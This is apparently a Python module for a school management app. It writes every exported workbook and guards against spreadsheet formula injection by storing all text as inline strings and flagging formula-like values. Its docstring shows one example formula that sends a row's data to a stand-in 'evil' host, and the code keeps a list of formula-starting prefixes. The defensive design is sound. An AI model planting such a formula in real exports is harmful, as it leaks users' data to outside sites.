"""The one xlsx writer: every workbook the app produces (exports, templates, printables).

Why one: text that people typed (a ledger note, a student's name, a group's motto) goes into
the principal's download, and a spreadsheet must never run it. openpyxl turns any string that
starts with "=" into a live formula (``=HYPERLINK("http://evil/?"&G2,"详情")`` would send the
row to another site), so no workbook is written any other way.

How a value is written:

- **Text is text.** Every ``str`` is stored as an inline string (``t="inlineStr"``), never as
  a formula (``<f>``), whatever it starts with; no spreadsheet evaluates it on opening.
- **Kept as typed.** Nothing is added or removed: no apostrophe in the value. Text that starts
  with ``= + - @``, a tab or a carriage return also gets the cell's *quote prefix* style (Excel's
  and WPS's "stored as text" flag), so editing the cell in Excel does not turn it into a formula
  either. Characters XML cannot carry (a carriage return, other control characters) are written
  with OOXML's own escape ``_x000D_``, and a literal ``_x0041_`` in the text as ``_x005F_x0041_``,
  as Excel itself does: Excel, WPS, LibreOffice and calamine read back exactly what was typed.
- **Numbers, dates and booleans stay numbers, dates and booleans.** A lazy translation is
  text; an aware datetime is written in local time (Excel has no time zones).

A workbook is a list of ``Sheet``: title, a bold header row, the rows (a ``Heading`` row is
bold, e.g. a title row or a header in the middle of the sheet), column widths, text columns
(number format "@", for ids with leading zeros) and wrapped text. openpyxl's write-only mode
streams the rows, so a large export does not hold the workbook in memory::

    from schoolops.sheets.writer import Heading, Sheet, workbook_bytes, write_xlsx

    write_xlsx(path, ["学籍号", "姓名"], rows, title="名单", text_columns={0}, widths=[14, 10])
    content = workbook_bytes(
        Sheet(_("Record"), rows=[Heading([_("Title")], size=14), ["key", "value"]], wrap=True),
        Sheet(_("Students"), headers=[_("Name")], rows=students),
    )

A download is an export kind (``schoolops.sheets.base.ExportSheet``, whose ``sheets()`` are
these ``Sheet``), served by ``schoolops.sheets.http.sheet_response``. A value that needs no
style and cannot be read as anything else goes to openpyxl as it is, so that a large export
costs little more than openpyxl's own writing (``bench/export_bench.py``).
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
from collections.abc import Collection, Iterable, Sequence
from dataclasses import dataclass, field
from typing import IO, Any

from django.utils import timezone
from django.utils.functional import Promise

# Text starting with one of these is a formula (or starts one) when typed into a spreadsheet.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# A literal OOXML escape in the text (kept literal by escaping its underscore), and the
# characters XML 1.0 cannot carry as they are (a carriage return would be read as a line feed).
_LITERAL_ESCAPE = re.compile(r"_(?=x[0-9A-Fa-f]{4}_)")
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b-\x1f]")
_NEEDS_ESCAPE = re.compile(r"[\x00-\x08\x0b-\x1f]|_x[0-9A-Fa-f]{4}_")
_NOT_PLAIN_PREFIXES = (*FORMULA_PREFIXES, "#")

# Not allowed in a sheet's name by Excel (plus control characters).
_BAD_TITLE = re.compile(r"[\\/*?:\[\]\x00-\x1f]")
MAX_TITLE = 31
MAX_CELL_TEXT = 32767  # Excel's limit; openpyxl cuts longer text there too

Target = str | os.PathLike | IO[bytes]


@dataclass(frozen=True)
class Heading:
    """A row written in bold: a title row (``size=14``) or a header inside a sheet."""

    values: Sequence[Any]
    size: float | None = None


@dataclass
class Sheet:
    title: str
    headers: Sequence[Any] = ()  # a bold first row; none if empty
    rows: Iterable[Sequence[Any] | Heading] = ()
    widths: Sequence[float | None] = ()  # per column, from A; None keeps the default
    text_columns: Collection[int] = field(default_factory=frozenset)  # 0-based, format "@"
    wrap: bool = False  # wrap text, top-aligned, in every cell


def _is_plain_text(text: str) -> bool:
    """Text openpyxl writes as the same inline string: no formula or error-code look (``=``,
    ``#N/A``), nothing to escape, no quote prefix to add."""
    return not (text.startswith(_NOT_PLAIN_PREFIXES) or _NEEDS_ESCAPE.search(text))


def escape_text(text: str) -> str:
    """``text`` in OOXML's escape for what XML cannot carry (Excel reads it back unchanged)."""
    if "_x" in text:
        text = _LITERAL_ESCAPE.sub("_x005F_", text)
    return _UNWRITABLE.sub(lambda match: f"_x{ord(match.group()):04X}_", text)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def sheet_title(title: Any) -> str:
    """A name Excel accepts: no ``\\ / * ? : [ ]``, no leading or trailing apostrophe, 31 long."""
    cleaned = _BAD_TITLE.sub("", str(title)).strip().strip("'")
    return cleaned[:MAX_TITLE].strip().strip("'") or "Sheet1"


def write_workbook(target: Target, sheets: Iterable[Sheet]) -> None:
    """Write ``sheets`` (at least one) to a path or a binary file."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    written = 0
    for sheet in sheets:
        _write_sheet(workbook, sheet)
        written += 1
    if not written:
        _write_sheet(workbook, Sheet(title=""))
    workbook.save(target)


def workbook_bytes(*sheets: Sheet) -> bytes:
    buffer = io.BytesIO()
    write_workbook(buffer, sheets)
    return buffer.getvalue()


def write_xlsx(
    target: Target,
    headers: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    title: str = "",
    text_columns: Collection[int] = frozenset(),
    widths: Sequence[float | None] = (),
) -> None:
    """One sheet with a bold header row: the shape of every export kind and template."""
    write_workbook(
        target,
        [Sheet(title, headers=headers, rows=rows, widths=widths, text_columns=text_columns)],
    )


class _Writer:
    """Builds the cells of one sheet. A value that needs no style and cannot be mistaken for
    anything but itself is handed to openpyxl as it is (most cells of a large export); any
    other gets a cell whose style (bold, text format, wrap, quote prefix) is made once per
    combination and copied."""

    def __init__(self, sheet: Any, spec: Sheet) -> None:
        from openpyxl.cell import Cell
        from openpyxl.styles import Alignment, Font

        self.sheet = sheet
        self.cell_class = Cell
        self.font_class = Font
        self.text_columns = frozenset(spec.text_columns)
        self.alignment = Alignment(wrap_text=True, vertical="top") if spec.wrap else None
        self.styles: dict[tuple[Any, bool, bool], Any] = {}

    def row(self, values: Sequence[Any], font: Any = None) -> list[Any]:
        """A row of values; ``font`` (bold) marks a header, which keeps the general format."""
        if font is None and self.alignment is None and not self.text_columns:
            return [self.value(value) for value in values]
        return [self.cell(index, value, font) for index, value in enumerate(values)]

    def value(self, value: Any) -> Any:
        """An unstyled cell: the value itself where openpyxl would write it unchanged."""
        if isinstance(value, Promise | dt.datetime):
            value = _plain(value)
        if isinstance(value, str):
            return value if _is_plain_text(value) else self.styled(value, None, False)
        return value  # a number, a date, a boolean or empty: openpyxl types it

    def cell(self, index: int, value: Any, font: Any = None) -> Any:
        text_column = font is None and index in self.text_columns
        value = _plain(value)
        if text_column and value is not None and not isinstance(value, str):
            value = str(value)
        if font is None and self.alignment is None and not text_column:
            return self.value(value)
        return self.styled(value, font, text_column)

    def styled(self, value: Any, font: Any, text_column: bool) -> Any:
        quoted = isinstance(value, str) and is_formula_like(value)
        key = (font, text_column, quoted)
        style = self.styles.get(key)
        if style is None:
            style = self.styles[key] = self._style(font, text_column, quoted)
        cell = self.cell_class(self.sheet, row=1, column=1, style_array=style)
        if isinstance(value, str):
            cell._value = escape_text(value)[:MAX_CELL_TEXT]
            cell.data_type = "s"  # never a formula, whatever the text starts with
        else:
            cell.value = value
        return cell

    def _style(self, font: Any, text_column: bool, quoted: bool) -> Any:
        cell = self.cell_class(self.sheet)
        if quoted:
            cell.quotePrefix = True  # Excel's and WPS's "stored as text" flag
        if text_column:
            cell.number_format = "@"
        if font is not None:
            cell.font = font
        if self.alignment is not None:
            cell.alignment = self.alignment
        return cell._style


def _write_sheet(workbook: Any, spec: Sheet) -> None:
    from openpyxl.utils import get_column_letter

    sheet = workbook.create_sheet(title=sheet_title(spec.title))
    for index, width in enumerate(spec.widths):
        if width is not None:
            sheet.column_dimensions[get_column_letter(index + 1)].width = width
    writer = _Writer(sheet, spec)
    bold = writer.font_class(bold=True)
    if spec.headers:
        sheet.append(writer.row(spec.headers, bold))
    for row in spec.rows:
        if isinstance(row, Heading):
            font = writer.font_class(bold=True, size=row.size) if row.size else bold
            sheet.append(writer.row(row.values, font))
        else:
            sheet.append(writer.row(row))


def _plain(value: Any) -> Any:
    if isinstance(value, Promise):
        return str(value)
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        return timezone.make_naive(value)
    return value
